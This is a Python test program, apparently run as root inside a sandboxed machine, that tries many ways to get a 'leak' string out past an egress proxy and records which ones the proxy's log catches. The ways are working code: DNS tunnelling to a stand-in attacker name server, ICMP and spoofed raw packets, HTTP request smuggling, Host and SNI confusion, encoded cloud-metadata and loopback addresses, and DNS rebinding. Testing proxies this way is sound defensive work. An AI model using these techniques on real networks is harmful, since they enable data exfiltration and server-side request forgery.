"""Ways to get bytes out of a machine, tried inside of it as root: a table, and the program that tries them.

The host's tests read the table; the machine runs this file, which needs the standard library alone, and
tells what came of each way as JSON. What the policy's log must show of a way is in the table too.
"""

import contextlib
import json
import os
import socket
import ssl
import struct
import sys
import urllib.request
from typing import NamedTuple

PROXY = ("127.0.0.1", 3128)
TIMEOUT = 20  # seconds; the machine has this file alone, so it is none of support.guards
PAST = "nothing leads out but the proxy"
UNNAMED = "no rule names it"
UNCLEAR = "two programs could understand it in two ways"


class Way(NamedTuple):
    """One way out.

    ``shown`` is the method, host and port of the line that the log must have; ``None`` where the host cannot
    see the attempt, and ``why`` says why not.
    """

    name: str
    how: object
    shown: tuple | None
    why: str


def filled(text, facts):
    """Return text with the facts of the run in it; anything else as it is."""
    return text.format_map(facts) if isinstance(text, str) else text


# Past the proxy


def packet(kind, address, port, family=socket.AF_INET):
    """Send the leak over TCP, or in a datagram, to an address of its own."""

    def send(facts):
        with socket.socket(family, kind) as sock:
            sock.settimeout(TIMEOUT)
            sock.connect((filled(address, facts), int(filled(port, facts))))
            sock.sendall(facts["leak"].encode())
            return sock.recv(100)

    return send


def tcp(address, port, family=socket.AF_INET):
    """Return a way that sends the leak over TCP."""
    return packet(socket.SOCK_STREAM, address, port, family)


def udp(address, port, family=socket.AF_INET):
    """Return a way that sends the leak in a datagram."""
    return packet(socket.SOCK_DGRAM, address, port, family)


def query(name):
    """Return a DNS query for the text record of a name (RFC 1035, section 4)."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, 16, 1)


def ask_udp(facts):
    """Ask a name server of the attacker over UDP."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(TIMEOUT)
        sock.connect(("203.0.113.11", 53))
        sock.send(query(f"{facts['leak']}.tunnel.test"))
        return sock.recv(500)


def ask_tcp(facts):
    """Ask a name server of the attacker over TCP."""
    with socket.create_connection(("203.0.113.12", 53), TIMEOUT) as sock:
        question = query(f"{facts['leak']}.tunnel.test")
        sock.sendall(struct.pack("!H", len(question)) + question)
        return sock.recv(500)


def ask_resolver(facts):
    """Ask the resolver of the machine."""
    return socket.getaddrinfo(f"{facts['leak']}.resolver.test", 80)


def checksum(data):
    """Return the checksum of the Internet protocols (RFC 1071)."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data + b"\0" * (len(data) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ping(facts):
    """Send the leak in an ICMP echo request."""
    body = facts["leak"].encode().ljust(40)
    head = struct.pack("!BBHHH", 8, 0, 0, 1, 1)
    head = struct.pack("!BBHHH", 8, 0, checksum(head + body), 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
        return sock.sendto(head + body, ("203.0.113.21", 0))


def ping_6(facts):
    """Send the leak in an ICMPv6 echo request."""
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as sock:
        return sock.sendto(
            struct.pack("!BBHHH", 128, 0, 0, 1, 1) + facts["leak"].encode(), ("2001:db8::21", 0)
        )


def ip_packet(protocol, target, payload, source="198.51.100.1"):
    """Return an IPv4 packet with a false sender."""
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 9, 0, 64, protocol, 0)
    addresses = socket.inet_aton(source) + socket.inet_aton(target)
    return head[:10] + struct.pack("!H", checksum(head + addresses)) + addresses + payload


def raw_ip(protocol, target):
    """Send a whole IP packet, made by hand, with a false sender."""

    def send(facts):
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
            payload = struct.pack("!HHHH", 9, 9, 8 + len(facts["leak"]), 0) + facts["leak"].encode()
            return sock.sendto(ip_packet(protocol, target, payload), (target, 0))

    return send


def syn_with_data(facts):
    """Send the leak in the first packet of a TCP connection."""
    tcp_head = struct.pack("!HHIIBBHHH", 1234, 443, 1, 0, 5 << 4, 2, 8192, 0, 0)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        made = ip_packet(socket.IPPROTO_TCP, "203.0.113.24", tcp_head + facts["leak"].encode())
        return sock.sendto(made, ("203.0.113.24", 0))


def link_layer(facts):
    """Send the leak in a frame of a network card that is not there."""
    payload = struct.pack("!HHHH", 9, 9, 8 + len(facts["leak"]), 0) + facts["leak"].encode()
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x0800) as sock:
        return sock.sendto(
            ip_packet(socket.IPPROTO_UDP, "203.0.113.25", payload), ("nowhere", 0x0800, 0, 0, b"\0" * 6)
        )


def other_card(facts):
    """Send the leak through a network card other than loopback."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")
        return sock.sendto(facts["leak"].encode(), ("203.0.113.26", 9))


def on_loopback_card(facts):
    """Send the leak through the loopback card, to an address outside."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo\0")
        return sock.sendto(facts["leak"].encode(), ("203.0.113.27", 9))


def multicast(facts):
    """Ask for the leak as a name by multicast DNS."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        return sock.sendto(query(f"{facts['leak']}.local"), ("224.0.0.251", 5353))


def broadcast(facts):
    """Send the leak to all hosts of the network."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        return sock.sendto(facts["leak"].encode(), ("255.255.255.255", 67))


def vsock(facts):
    """Connect to the host by vsock."""
    with socket.socket(getattr(socket, "AF_VSOCK", 40), socket.SOCK_STREAM) as sock:
        sock.settimeout(TIMEOUT)
        sock.connect((2, int(facts["trap"])))  # CID 2: the host
        return sock.send(facts["leak"].encode())


# Through the proxy


def answer(sock):
    """Return all that comes until the connection ends."""
    data = b""
    with contextlib.suppress(ConnectionError):
        while piece := sock.recv(65536):
            data += piece
    return data


def until(sock, end):
    """Return what comes up to ``end``, or to the end of the connection."""
    data = b""
    while end not in data:
        piece = sock.recv(1)
        if not piece:
            break
        data += piece
    return data


def proxied(raw):
    """Send bytes to the proxy as they are."""

    def ask(facts):
        with socket.create_connection(PROXY, TIMEOUT) as sock:
            sock.sendall(raw if isinstance(raw, bytes) else filled(raw, facts).encode("latin-1"))
            return answer(sock)

    return ask


def get(url, *lines, version="1.1", method="GET"):
    """Ask for a URL as a proxy's clients do; its host is the ``Host``, unless ``lines`` has one."""
    if not any(line.startswith("Host") for line in lines):
        lines = (f"Host: {url.partition('://')[2].partition('/')[0]}", *lines)
    return proxied("\r\n".join([f"{method} {url} HTTP/{version}", *lines, "Connection: close", "", ""]))


def own_head(first, *lines):
    """Ask with exactly these lines."""
    return proxied("\r\n".join([first, *lines, "", ""]))


def second(url, *, pipelined):
    """Ask for something else on a connection on which something allowed was asked for."""

    def ask(facts):
        one = "GET http://{name}.plain.test/first HTTP/1.1\r\nHost: {name}.plain.test\r\n\r\n"
        host = url.partition("://")[2].partition("/")[0]
        two = f"GET {url} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
        one, two = (filled(text, facts).encode() for text in (one, two))
        with socket.create_connection(PROXY, TIMEOUT) as sock:
            sock.sendall(one + two if pipelined else one)
            first = until(sock, b"hello")
            assert b"200 OK" in first, first
            if not pipelined:
                sock.sendall(two)
            return answer(sock)

    return ask


def tunnel(target, facts):
    """Return a connection through a tunnel that the proxy lets begin."""
    target = filled(target, facts)
    sock = socket.create_connection(PROXY, TIMEOUT)
    sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    head = until(sock, b"\r\n\r\n")
    assert b" 200 " in head, head
    return sock


def tunnelled(target, raw):
    """Send bytes through a tunnel."""

    def ask(facts):
        with tunnel(target, facts) as sock:
            sock.sendall(raw if isinstance(raw, bytes) else filled(raw, facts).encode())
            return answer(sock)

    return ask


def split(data, size):
    """Return a TLS record as several."""
    pieces = [data[start : start + size] for start in range(5, len(data), size)]
    return b"".join(data[:3] + struct.pack("!H", len(piece)) + piece for piece in pieces)


def tls(target, name, *, record=0, request=""):
    """Speak TLS through a tunnel, asking for ``name``; its first message in records of ``record`` bytes."""

    def ask(facts):
        context = ssl.create_default_context()
        context.check_hostname = name is not None
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        if name is None:
            context.verify_mode = ssl.CERT_NONE
        secure = context.wrap_bio(incoming, outgoing, server_hostname=name and filled(name, facts))
        with tunnel(target, facts) as sock:

            def step(call):
                while True:
                    with contextlib.suppress(ssl.SSLWantReadError):
                        return call()
                    move()

            def move():
                sock.sendall(outgoing.read())
                data = sock.recv(65536)
                if not data:
                    incoming.write_eof()
                incoming.write(data)

            if record:
                with contextlib.suppress(ssl.SSLWantReadError):
                    secure.do_handshake()
                sock.sendall(split(outgoing.read(), record))
            step(secure.do_handshake)
            secure.write(filled(request, facts).encode())
            data = b""
            with contextlib.suppress(ssl.SSLError):
                while b"hello" not in data and (piece := step(lambda: secure.read(65536))):
                    data += piece
            return data

    return ask


def inside(path, host="looked.test", method="GET"):
    """Ask for something over TLS that the proxy looks into."""
    request = f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
    return tls("looked.test:443", "looked.test", request=request)


def redirected(target):
    """Follow an allowed server to a forbidden one, as a client does by itself."""

    def follow(facts):
        url = f"http://{facts['name']}.plain.test/redirect?to={filled(target, facts)}"
        return urllib.request.urlopen(url, timeout=TIMEOUT).read()

    return follow


def turning(first, then):
    """Ask for the same name twice: it leads somewhere else the second time."""

    def ask(facts):
        assert first(facts).endswith(b"hello")
        return then(facts)

    return ask


FORBIDDEN = ("GET", "evil.test", 80)
OWN = ("GET", "{name}.plain.test", 0)  # of what cannot be read the port is not known
NO_HTTP = ("?", "", 0)
G = "GET http://{name}.plain.test/{leak} HTTP/1.1"
P = "POST http://{name}.plain.test/first HTTP/1.1"
H = "Host: {name}.plain.test"
HIDDEN = "GET http://{name}.plain.test/{leak} HTTP/1.1\r\nHost: {name}.plain.test\r\n\r\n"
METADATA = {
    "decimal": ("2852039166", None),
    "hexadecimal": ("0xa9fea9fe", None),
    "octal": ("0251.0376.0251.0376", None),
    "short": ("169.254.43518", None),
    "mapped": ("[::ffff:169.254.169.254]", None),
    "mapped-hex": ("[::ffff:a9fe:a9fe]", None),
    "nat64": ("[64:ff9b::a9fe:a9fe]", "64:ff9b::a9fe:a9fe"),
    "6to4": ("[2002:a9fe:a9fe::1]", "2002:a9fe:a9fe::1"),
}
LOOPBACK = {
    "number": ("127.0.0.1", None),
    "decimal": ("2130706433", None),
    "hexadecimal": ("0x7f000001", None),
    "octal": ("0177.0.0.1", None),
    "short": ("127.1", None),
    "mapped": ("[::ffff:127.0.0.1]", None),
    "other": ("127.9.9.9", "127.9.9.9"),
    "name": ("localhost", "localhost"),
    "below": ("x.localhost", "x.localhost"),
    "ipv6": ("[::1]", "::1"),
    "unspecified": ("0.0.0.0", "0.0.0.0"),  # noqa: S104 - which leads to the machine itself
    "unspecified-6": ("[::]", "::"),
    "own": ("{own}", "{own}"),
    "own-6": ("[{own6}]", "{own6}"),
}

DIRECT = [
    Way("tcp", tcp("203.0.113.1", 443), ("TCP", "203.0.113.1", 443), PAST),
    Way("tcp-to-the-host", tcp("{own}", "{trap}"), ("TCP", "{own}", "{trap}"), PAST),
    Way("tcp-to-qemus-host", tcp("10.0.2.2", "{trap}"), ("TCP", "10.0.2.2", "{trap}"), PAST),
    Way("tcp-to-the-metadata", tcp("169.254.169.254", 80), ("TCP", "169.254.169.254", 80), PAST),
    Way("tcp-mapped", tcp("::ffff:203.0.113.2", 443, socket.AF_INET6), ("TCP", "203.0.113.2", 443), PAST),
    Way("tcp-6", tcp("2001:db8::1", 443, socket.AF_INET6), ("TCP", "2001:db8::1", 443), PAST),
    Way("tcp-6-to-the-host", tcp("{own6}", "{trap}", socket.AF_INET6), ("TCP", "{own6}", "{trap}"), PAST),
    Way(
        "tcp-to-loopback", tcp("127.0.0.1", "{trap}"), None, "loopback is the machine's own: nothing is sent"
    ),
    Way("udp", udp("203.0.113.3", 9999), ("UDP", "203.0.113.3", 9999), PAST),
    Way("udp-to-the-host", udp("{own}", "{trap}"), ("UDP", "{own}", "{trap}"), PAST),
    Way("udp-6", udp("2001:db8::2", 9999, socket.AF_INET6), ("UDP", "2001:db8::2", 9999), PAST),
    Way("quic", udp("203.0.113.4", 443), ("UDP", "203.0.113.4", 443), PAST),
    Way("dns", ask_udp, ("DNS", "{leak}.tunnel.test", 53), PAST),
    Way("dns-tcp", ask_tcp, ("TCP", "203.0.113.12", 53), PAST),
    Way("dns-resolver", ask_resolver, ("DNS", "{leak}.resolver.test", 53), PAST),
    Way("icmp", ping, ("ICMP", "203.0.113.21", 0), PAST),
    Way("icmp-6", ping_6, ("ICMP", "2001:db8::21", 0), PAST),
    Way("raw-sctp", raw_ip(132, "203.0.113.22"), ("IP/132", "203.0.113.22", 0), PAST),
    Way("raw-udp", raw_ip(17, "203.0.113.23"), ("UDP", "203.0.113.23", 9), PAST),
    Way("raw-syn-with-data", syn_with_data, ("TCP", "203.0.113.24", 443), PAST),
    Way("packet-socket", link_layer, ("UDP", "203.0.113.25", 9), PAST),
    Way("broadcast", broadcast, ("UDP", "255.255.255.255", 67), PAST),
    Way(
        "multicast", multicast, None, "kernels speak to groups by themselves, so it is dropped without a word"
    ),
    Way("other-card", other_card, None, "there is no such card: the kernel refuses"),
    Way("loopback-card", on_loopback_card, None, "the kernel drops on lo what is for nobody there"),
    Way("vsock", vsock, None, "the machine has no such device: the kernel refuses"),
]

TO_THE_PROXY = [
    Way("forbidden", get("http://evil.test/{leak}"), FORBIDDEN, UNNAMED),
    Way("forbidden-http-1.0", get("http://evil.test/{leak}", version="1.0"), FORBIDDEN, UNNAMED),
    Way("forbidden-name-tells", get("http://{leak}.evil.test/"), ("GET", "{leak}.evil.test", 80), UNNAMED),
    Way("forbidden-tunnel", get("evil.test:443", "Host: evil.test:443", method="CONNECT"),
        ("CONNECT", "evil.test", 443), UNNAMED),
    Way("forbidden-tunnel-tells", get("{leak}.evil.test:443", "Host: {leak}.evil.test:443", method="CONNECT"),
        ("CONNECT", "{leak}.evil.test", 443), UNNAMED),
    Way("forbidden-websocket", get("ws://evil.test/{leak}", "Upgrade: websocket"), FORBIDDEN, UNNAMED),
    Way("dot", get("http://evil.test./{leak}"), FORBIDDEN, UNNAMED),
    Way("upper-case", get("http://EVIL.TEST/{leak}"), FORBIDDEN, UNNAMED),
    Way("percent", get("http://%65vil.test/{leak}"), ("GET", "%65vil.test", 0), UNCLEAR),
    Way("suffix", get("http://x.plain.test.evil.test/{leak}"), ("GET", "x.plain.test.evil.test", 80),
        UNNAMED),
    Way("prefix", get("http://evilplain.test/{leak}"), ("GET", "evilplain.test", 80), UNNAMED),
    Way("parent", get("http://plain.test/{leak}"), ("GET", "plain.test", 80),
        "*.plain.test is what is below"),
    Way("other-port", get("http://{name}.plain.test:8080/{leak}"), ("GET", "{name}.plain.test", 8080),
        UNNAMED),
    Way("other-port-tunnel", get("{name}.plain.test:22", "Host: {name}.plain.test:22", method="CONNECT"),
        ("CONNECT", "{name}.plain.test", 22), UNNAMED),
    Way("other-port-of-https", get("looked.test:80", "Host: looked.test:80", method="CONNECT"),
        ("CONNECT", "looked.test", 80), "the rule is about https"),
    Way("user", get("http://user:{leak}@evil.test/", "Host: evil.test"), ("GET", "evil.test", 0), UNCLEAR),
    Way("user-allowed", get("http://{name}.plain.test@evil.test/{leak}", "Host: evil.test"),
        ("GET", "evil.test", 0), UNCLEAR),
    Way("backslash", get(r"http://evil.test\@{name}.plain.test/{leak}", H), OWN, UNCLEAR),
    Way("fragment", get("http://evil.test#@{name}.plain.test/{leak}", H), ("GET", "evil.test", 0), UNCLEAR),
    Way("https-in-plain", get("https://evil.test/{leak}"), ("GET", "evil.test", 0), "https needs a tunnel"),
    Way("https-in-plain-allowed", get("https://{name}.plain.test/{leak}"), OWN, "https needs a tunnel"),
    Way("ftp", get("ftp://evil.test/{leak}"), ("GET", "evil.test", 0), "it is not spoken"),
    Way("ftp-allowed", get("ftp://{name}.plain.test/{leak}"), OWN, "it is not spoken"),
    Way("file", get("file:///etc/hostname", "Host: x"), ("GET", "", 0), "it is not spoken"),
    Way("path-only", get("/{leak}", "Host: evil.test"), ("GET", "", 0), "the proxy is no server"),
    Way("path-only-allowed", get("/{leak}", H), ("GET", "", 0), "the proxy is no server"),
    Way("host-header", own_head(G, "Host: evil.test"), OWN, UNCLEAR),
    Way("host-header-forbidden", own_head("GET http://evil.test/{leak} HTTP/1.1", H), ("GET", "evil.test", 0),
        UNCLEAR),
    Way("host-twice", own_head(G, H, "Host: evil.test"), OWN, UNCLEAR),
    Way("host-twice-the-same", own_head(G, H, H), OWN, UNCLEAR),
    Way("host-list", own_head(G, "Host: {name}.plain.test, evil.test"), OWN, UNCLEAR),
    Way("host-port", own_head(G, "Host: {name}.plain.test:8080"), OWN, UNCLEAR),
    Way("host-user", own_head(G, "Host: evil.test@{name}.plain.test"), OWN, UNCLEAR),
    Way("host-missing", own_head(G), OWN, UNCLEAR),
    Way("host-folded", own_head(G, "Host:\r\n {name}.plain.test"), OWN, UNCLEAR),
    Way("host-space", own_head(G, "Host : {name}.plain.test"), OWN, UNCLEAR),
    Way("two-lengths", own_head(P, H, "Content-Length: 4", "Content-Length: 90", "", HIDDEN),
        ("POST", "{name}.plain.test", 0), UNCLEAR),
    Way("length-and-chunks",
        own_head(P, H, "Content-Length: 5", "Transfer-Encoding: chunked", "", "0", "", HIDDEN),
        ("POST", "{name}.plain.test", 0), UNCLEAR),
    Way("chunks-and-more", own_head(P, H, "Transfer-Encoding: chunked, identity", "", "0", "", HIDDEN),
        ("POST", "{name}.plain.test", 0), UNCLEAR),
    Way("chunks-like", own_head(P, H, "Transfer-Encoding: xchunked", "", "0", "", HIDDEN),
        ("POST", "{name}.plain.test", 0), UNCLEAR),
    Way("chunks-http-1.0",
        own_head("POST http://{name}.plain.test/ HTTP/1.0", H, "Transfer-Encoding: chunked",
        "", "0", "", HIDDEN), ("POST", "{name}.plain.test", 0), UNCLEAR),
    Way("folded", own_head(G, H, "X: a\r\n Host: evil.test"), OWN, UNCLEAR),
    Way("bare-line-feed", own_head(G, H, "X: a\nHost: evil.test"), OWN, UNCLEAR),
    Way("bare-line-feeds",
        proxied("GET http://{name}.plain.test/{leak} HTTP/1.1\nHost: {name}.plain.test\n\n"),
        OWN, UNCLEAR),
    Way("bare-return", own_head(G, H, "X: a\rHost: evil.test"), OWN, UNCLEAR),
    Way("nul", own_head(G, H, "X: a\0b"), OWN, UNCLEAR),
    Way("space-in-target", own_head("GET http://{name}.plain.test/ http://evil.test/{leak} HTTP/1.1", H), OWN,
        UNCLEAR),
    Way("http-0.9", proxied("GET http://evil.test/{leak}\r\n\r\n"), ("GET", "evil.test", 0),
        "it is not spoken"),
    Way("http-2", proxied(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), ("PRI", "*", 0), "it is not spoken"),
    Way("http-3", own_head("GET http://{name}.plain.test/{leak} HTTP/3.0", H), OWN, "it is not spoken"),
    Way("trace", own_head("TRACE http://{name}.plain.test/{leak} HTTP/1.1", H),
        ("TRACE", "{name}.plain.test", 0), "it shows headers that the proxy adds"),
    Way("oversized", own_head(G, H, "X: " + "x" * 70000), OWN, "a head has an end"),
    Way("oversized-target", own_head(f"GET http://{{name}}.plain.test/{'x' * 70000} HTTP/1.1", H), OWN,
        "a head has an end"),
    Way("tunnel-path", own_head("CONNECT evil.test:443/{leak} HTTP/1.1", "Host: evil.test:443"),
        ("CONNECT", "evil.test:443", 0), UNCLEAR),
    Way("tunnel-user",
        own_head("CONNECT {name}.secure.test:443@evil.test:443 HTTP/1.1", "Host: evil.test:443"),
        ("CONNECT", "evil.test:443", 0), UNCLEAR),
    Way("tunnel-no-port", own_head("CONNECT {name}.secure.test HTTP/1.1", "Host: {name}.secure.test"),
        ("CONNECT", "{name}.secure.test", 0), UNCLEAR),
    Way("tunnel-host", own_head("CONNECT {name}.secure.test:443 HTTP/1.1", "Host: evil.test:443"),
        ("CONNECT", "{name}.secure.test:443", 0), UNCLEAR),
    Way("tunnel-body", own_head("CONNECT {name}.secure.test:443 HTTP/1.1", "Host: {name}.secure.test:443",
        "Content-Length: 90", "", HIDDEN), ("CONNECT", "{name}.secure.test:443", 0), UNCLEAR),
    Way("socks-4", proxied(b"\x04\x01\x01\xbb\xcb\x00\x71\x01leak\0"), NO_HTTP, "it is not spoken"),
    Way("socks-5", proxied(b"\x05\x01\x00"), NO_HTTP, "it is not spoken"),
    Way("tls-to-the-proxy", proxied(b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00"), NO_HTTP,
        "it is not spoken"),
    Way("second", second("http://evil.test/{leak}", pipelined=False), FORBIDDEN, "each is decided by itself"),
    Way("pipelined", second("http://evil.test/{leak}", pipelined=True), FORBIDDEN,
        "each is decided by itself"),
    Way("redirect", redirected("http://evil.test/followed"), FORBIDDEN, "a new request is decided anew"),
    Way("redirect-to-metadata", redirected("http://169.254.169.254/latest"), ("GET", "169.254.169.254", 80),
        "a new request is decided anew"),
]  # fmt: skip

PLACES = [
    *(
        Way(f"loopback-{kind}", get(f"http://{host}:{{trap}}/{{leak}}"),
            ("GET", shown or "127.0.0.1", "{trap}"), "loopback is the host's own")
        for kind, (host, shown) in LOOPBACK.items()
    ),
    Way("loopback-tunnel", get("127.0.0.1:{trap}", "Host: 127.0.0.1:{trap}", method="CONNECT"),
        ("CONNECT", "127.0.0.1", "{trap}"), "loopback is the host's own"),
    Way("metadata", get("http://169.254.169.254/{leak}"), ("GET", "169.254.169.254", 80), "the cloud's own"),
    *(
        Way(f"metadata-{kind}", get(f"http://{host}/{{leak}}"), ("GET", shown or "169.254.169.254", 80),
            "the cloud's own")
        for kind, (host, shown) in METADATA.items()
    ),
    Way("zone", get("http://[fe80::1%25eth0]/{leak}"), ("GET", "[fe80::1%25eth0]", 0), UNCLEAR),
]  # fmt: skip

# Names that a rule allows; the host's resolver says where they lead.
LEAD_TO = {
    "to-loopback": ("127.0.0.1",),
    "to-loopback-6": ("::1",),
    "to-loopback-mapped": ("::ffff:127.0.0.1",),
    "to-unspecified": ("0.0.0.0",),  # noqa: S104 - which leads to the machine itself
    "to-metadata": ("169.254.169.254",),
    "to-metadata-nat64": ("64:ff9b::a9fe:a9fe",),
    "to-link-local": ("fe80::1%1",),
    "to-private": ("10.255.255.1",),
}
TURNS = [
    *(
        Way(kind, get("http://{name}.rebind.test:{trap}/{leak}"), ("GET", "{name}.rebind.test", "{trap}"),
            "addresses are decided on too")
        for kind in LEAD_TO
    ),
    Way("turns", turning(get("http://{name}.rebind.test:{trap}/first"),
        get("http://{name}.rebind.test:{trap}/{leak}")),
        ("GET", "{name}.rebind.test", "{trap}"), "addresses are decided on each time"),
    Way("turns-tunnel", turning(get("http://{name}.rebind.test:{trap}/first"),
        get("{name}.rebind.test:{trap}", "Host: {name}.rebind.test:{trap}", method="CONNECT")),
        ("CONNECT", "{name}.rebind.test", "{trap}"), "addresses are decided on each time"),
]  # fmt: skip

SECURE = ("CONNECT", "{name}.secure.test", 443)
LOOKED = ("GET", "looked.test", 443)
TARGET = "{name}.secure.test:443"
REQUEST = "GET /{leak} HTTP/1.1\r\nHost: {name}.secure.test\r\n\r\n"
TUNNELS = [
    Way("plain-in-443", tunnelled(TARGET, REQUEST), SECURE, "443 speaks TLS"),
    Way("ssh-in-443", tunnelled(TARGET, "SSH-2.0-{leak}\r\n"), SECURE, "443 speaks TLS"),
    Way("no-hello", tunnelled(TARGET, b"\x16\x03\x01\x00\x04\x02\x00\x00\x00"), SECURE, "443 speaks TLS"),
    Way("other-sni", tls(TARGET, "{leak}.evil.test", request=REQUEST), SECURE, "it asks for another"),
    Way("no-sni", tls(TARGET, None, request=REQUEST), SECURE, "a host without a name is another one"),
    Way("other-sni-split", tls(TARGET, "{leak}.evil.test", record=20), SECURE, "it asks for another"),
    Way("80-other-host", tunnelled("{name}.plain.test:80", "GET /{leak} HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
        ("GET", "{name}.plain.test", 80), "each request is looked at"),
    Way("80-whole-url", tunnelled("{name}.plain.test:80",
        "GET http://evil.test/{leak} HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
        ("GET", "{name}.plain.test", 80), "each request is looked at"),
    Way("80-tunnel-in-tunnel", tunnelled("{name}.plain.test:80",
        "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n"),
        ("CONNECT", "{name}.plain.test", 80), "each request is looked at"),
    Way("80-tls", tunnelled("{name}.plain.test:80", b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00"),
        ("?", "{name}.plain.test", 80), "80 speaks HTTP"),
    Way("looked-path", inside("/{leak}"), LOOKED, "the rule is about another path"),
    Way("looked-dots", inside("/ok/../{leak}"), LOOKED, "the path is not below"),
    Way("looked-escaped-dots", inside("/ok/%2e%2e/{leak}"), LOOKED, "the path is not below"),
    Way("looked-host", inside("/ok/{leak}", host="evil.test"), LOOKED, "the name within is another"),
    Way("looked-sni", tls("looked.test:443", "{leak}.evil.test"), ("CONNECT", "looked.test", 443),
        "it asks for another"),
]  # fmt: skip

WAYS = [*DIRECT, *TO_THE_PROXY, *PLACES, *TURNS, *TUNNELS]

COUNTERPARTS = {
    "http": get("http://ok.plain.test/"),
    "http-1.0": get("http://ok.plain.test/", version="1.0"),
    "dot-and-case": get("http://OK.Plain.test./"),
    "whole-port": get("http://ok.plain.test:80/"),
    "second": second("http://ok.plain.test/", pipelined=False),
    "pipelined": second("http://ok.plain.test/", pipelined=True),
    "chunks": own_head("POST http://ok.plain.test/ HTTP/1.1", "Host: ok.plain.test", "Connection: close",
        "Transfer-Encoding: chunked", "", "5;ext=1", "12345", "0", ""),
    "large-head": get("http://ok.plain.test/", "X: " + "x" * 60000),
    "redirect": redirected("http://ok.plain.test/"),
    "tunnel-80": tunnelled("ok.plain.test:80",
        "GET / HTTP/1.1\r\nHost: ok.plain.test\r\nConnection: close\r\n\r\n"),
    "tls": tls("secure.test:443", "secure.test",
        request="GET / HTTP/1.1\r\nHost: secure.test\r\nConnection: close\r\n\r\n"),
    "tls-split": tls("secure.test:443", "secure.test", record=20,
        request="GET / HTTP/1.1\r\nHost: secure.test\r\nConnection: close\r\n\r\n"),
    "looked": inside("/ok/hello"),
    "rebind": get("http://stays.rebind.test:{trap}/"),
}  # fmt: skip


def tried(name, how, facts):
    """Return what came of a way, as text."""
    try:
        return repr(how({**facts, "name": name, "leak": f"leak-{name}"}))
    except OSError as error:
        return f"{type(error).__name__}: {error}"


def main():
    """Try all ways, or those named on stdin; an answer or an error of the network comes of each."""
    facts = json.load(sys.stdin)
    only = facts.pop("only", None)
    done = {way.name: tried(way.name, way.how, facts) for way in WAYS if only is None or way.name in only}
    allowed = {name: tried(name, how, facts) for name, how in COUNTERPARTS.items() if only is None}
    sys.stdout.write(json.dumps({"ways": done, "counterparts": allowed, "user": os.getuid()}))


if __name__ == "__main__":
    main()
